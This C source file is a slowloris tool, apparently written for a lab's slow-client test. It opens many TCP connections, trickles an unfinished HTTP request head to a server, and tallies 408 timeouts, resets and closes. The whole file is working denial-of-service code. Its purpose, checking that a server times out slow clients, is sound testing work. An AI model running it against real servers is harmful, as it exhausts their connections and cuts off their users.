// SPDX-License-Identifier: GPL-2.0
/*
 * slowloris: many connections that each send a request head slowly and never
 * finish it, for the lab's slow-client test.
 *
 * Opens --conns TCP connections to --dst:--port (ordinary sockets: real
 * handshakes), sends each the start of a head ("GET PATH HTTP/1.1\r\nHost: ..\r\n"),
 * then one more header line every --interval-ms, never the blank line that
 * ends the head. Reads whatever comes back. Runs until every connection has
 * ended or --seconds have passed (bounded), then closes what is left.
 *
 * Prints one line:
 *   conns=N connected=N r408=N other=N reset=N eof=N open=N first_ms=N last_ms=N
 * r408: answered "HTTP/1.x 408"; other: answered with another status; reset:
 * ended by RST without an answer; eof: closed without an answer; open: still
 * open at the end; first_ms/last_ms: when the first and last answer arrived,
 * from the start (-1 if none).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNS 4000

enum state { CONNECTING, TRICKLING, DONE };
enum outcome { NONE, R408, OTHER, RESET, END };

struct conn {
	int fd;
	enum state state;
	enum outcome outcome;
	unsigned int lines;
	char head[16]; /* the first bytes of the answer */
	size_t got;
};

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static void __attribute__((noreturn)) die(const char *what, const char *arg)
{
	fprintf(stderr, "slowloris: %s%s%s\n", what, arg ? " " : "", arg ? arg : "");
	exit(2);
}

static long num(const char *s, long min, long max, const char *what)
{
	char *end;
	long v;

	errno = 0;
	v = strtol(s, &end, 10);
	if (errno || *end || v < min || v > max)
		die(what, s);
	return v;
}

static void send_all(struct conn *c, const char *s)
{
	size_t len = strlen(s);
	ssize_t n = send(c->fd, s, len, MSG_NOSIGNAL | MSG_DONTWAIT);

	/* A short or failed send of a few bytes: the reader below will see why. */
	(void)n;
}

static void finish(struct conn *c, enum outcome o)
{
	if (c->outcome == NONE)
		c->outcome = o;
	c->state = DONE;
	close(c->fd);
	c->fd = -1;
}

int main(int argc, char **argv)
{
	static const struct option longopts[] = {
		{ "dst", required_argument, NULL, 'd' },
		{ "port", required_argument, NULL, 'p' },
		{ "conns", required_argument, NULL, 'n' },
		{ "interval-ms", required_argument, NULL, 'i' },
		{ "seconds", required_argument, NULL, 't' },
		{ "path", required_argument, NULL, 'P' },
		{ "help", no_argument, NULL, 'h' },
		{ NULL, 0, NULL, 0 },
	};
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(80) };
	const char *path = "/shared/1k.bin";
	long nconns = 200, interval_ms = 500, seconds = 10;
	unsigned int connected = 0, counts[END + 1] = { 0 }, open_left = 0;
	double t0, deadline, next_tick, first = -1, last = -1;
	struct pollfd *pfds;
	struct conn *conns;
	struct rlimit rl;
	char line[256];
	int opt;

	while ((opt = getopt_long(argc, argv, "d:p:n:i:t:P:h", longopts, NULL)) != -1) {
		switch (opt) {
		case 'd':
			if (inet_pton(AF_INET, optarg, &to.sin_addr) != 1)
				die("bad --dst", optarg);
			break;
		case 'p': to.sin_port = htons((uint16_t)num(optarg, 1, 65535, "bad --port")); break;
		case 'n': nconns = num(optarg, 1, MAX_CONNS, "bad --conns (1..4000)"); break;
		case 'i': interval_ms = num(optarg, 10, 60000, "bad --interval-ms"); break;
		case 't': seconds = num(optarg, 1, 120, "bad --seconds (1..120)"); break;
		case 'P': path = optarg; break;
		case 'h':
			printf("usage: slowloris --dst IP [--port 80] [--conns 200] [--interval-ms 500]\n"
			       "                 [--seconds 10] [--path /shared/1k.bin]\n");
			return 0;
		default:
			return 2;
		}
	}
	if (!to.sin_addr.s_addr || optind != argc)
		die("usage: slowloris --dst IP [options] (--help)", NULL);
	if (strlen(path) > 200)
		die("--path too long", NULL);

	/* Room for the sockets. */
	if (!getrlimit(RLIMIT_NOFILE, &rl) && rl.rlim_cur < (rlim_t)nconns + 16) {
		rl.rlim_cur = (rlim_t)nconns + 16;
		if (rl.rlim_max < rl.rlim_cur)
			rl.rlim_max = rl.rlim_cur;
		if (setrlimit(RLIMIT_NOFILE, &rl))
			die("cannot raise the open-file limit", NULL);
	}
	conns = calloc((size_t)nconns, sizeof(*conns));
	pfds = calloc((size_t)nconns, sizeof(*pfds));
	if (!conns || !pfds)
		die("out of memory", NULL);

	t0 = now_s();
	deadline = t0 + (double)seconds;
	for (long i = 0; i < nconns; i++) {
		struct conn *c = &conns[i];

		c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		if (c->fd < 0)
			die("socket() failed", NULL);
		if (connect(c->fd, (struct sockaddr *)&to, sizeof(to)) && errno != EINPROGRESS) {
			finish(c, RESET);
			continue;
		}
		c->state = CONNECTING;
	}

	next_tick = now_s() + interval_ms / 1000.0;
	for (;;) {
		double t = now_s();
		int active = 0, wait_ms;

		if (t >= deadline)
			break;
		for (long i = 0; i < nconns; i++) {
			struct conn *c = &conns[i];

			pfds[i].fd = c->state == DONE ? -1 : c->fd;
			pfds[i].events = c->state == CONNECTING ? POLLOUT : POLLIN;
			pfds[i].revents = 0;
			active += c->state != DONE;
		}
		if (!active)
			break;
		wait_ms = (int)(((next_tick < deadline ? next_tick : deadline) - t) * 1000) + 1;
		if (poll(pfds, (nfds_t)nconns, wait_ms) < 0 && errno != EINTR)
			die("poll failed", NULL);

		for (long i = 0; i < nconns; i++) {
			struct conn *c = &conns[i];
			char buf[4096];
			ssize_t n;

			if (c->state == DONE || !pfds[i].revents)
				continue;
			if (c->state == CONNECTING) {
				int err = 0;
				socklen_t el = sizeof(err);

				getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &el);
				if (err) {
					finish(c, RESET);
					continue;
				}
				connected++;
				c->state = TRICKLING;
				snprintf(line, sizeof(line), "GET %s HTTP/1.1\r\nHost: 192.0.2.80\r\n", path);
				send_all(c, line);
				continue;
			}
			n = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT);
			if (n > 0) {
				size_t k = (size_t)n;

				if (c->got < sizeof(c->head)) {
					if (k > sizeof(c->head) - c->got)
						k = sizeof(c->head) - c->got;
					memcpy(c->head + c->got, buf, k);
					c->got += k;
				}
				if (c->outcome == NONE && c->got >= 12) {
					c->outcome = !memcmp(c->head, "HTTP/1.", 7) &&
							     !memcmp(c->head + 9, "408", 3)
							     ? R408
							     : OTHER;
					t = now_s();
					if (first < 0)
						first = t - t0;
					last = t - t0;
				}
				continue;
			}
			if (n < 0 && (errno == EAGAIN || errno == EINTR))
				continue;
			/* The end: an answer seen before, or none (reset or plain close). */
			finish(c, n < 0 ? RESET : END);
		}

		if (now_s() >= next_tick) {
			for (long i = 0; i < nconns; i++) {
				struct conn *c = &conns[i];

				if (c->state != TRICKLING || c->outcome != NONE)
					continue;
				snprintf(line, sizeof(line), "X-Slow-%u: %u\r\n", c->lines, c->lines);
				c->lines++;
				send_all(c, line);
			}
			next_tick += interval_ms / 1000.0;
		}
	}

	for (long i = 0; i < nconns; i++) {
		struct conn *c = &conns[i];

		if (c->state != DONE) {
			if (c->outcome == NONE)
				open_left++;
			close(c->fd);
		}
		counts[c->outcome]++;
	}
	printf("conns=%ld connected=%u r408=%u other=%u reset=%u eof=%u open=%u first_ms=%.0f "
	       "last_ms=%.0f\n",
	       nconns, connected, counts[R408], counts[OTHER], counts[RESET],
	       counts[END], open_left, first < 0 ? -1 : first * 1000, last < 0 ? -1 : last * 1000);
	free(conns);
	free(pfds);
	return 0;
}
